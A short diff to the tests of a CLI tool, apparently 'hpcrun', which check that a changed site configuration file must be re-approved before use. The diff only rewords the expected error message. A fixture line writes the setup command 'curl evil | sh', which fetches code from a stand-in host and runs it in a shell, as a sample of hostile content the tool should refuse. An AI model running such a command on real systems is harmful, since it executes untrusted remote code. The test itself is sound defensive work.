@@ -78,7 +78,7 @@ def test_another_users_file_needs_permission_after_each_change(cli, shared, monk
     assert "echo hello" in submit(cli)[1]
 
     file.write_text('extends = "slurm"\nsetup = ["curl evil | sh"]\n')
-    refused(cli, "it has changed since you allowed it", "hpcrun site allow ours")
+    refused(cli, "the file has changed since you allowed it", "hpcrun site allow ours")
     code, _, err = cli("site", "allow")
     assert "ours" not in err  # it is not the site that is used here
     _, _, err = cli("site", "allow", str(file), "--yes")
@@ -287,7 +287,7 @@ def test_the_checked_content_is_the_content_used(shared, monkeypatch):
     file.write_text(evil)
     found = loader.load_site("ours")
     file.write_text(good)
-    with pytest.raises(HpcrunError, match="it has changed"):
+    with pytest.raises(HpcrunError, match="the file has changed"):
         trust.require_trusted(found)
     found = loader.load_site("ours")
     file.write_text(evil)
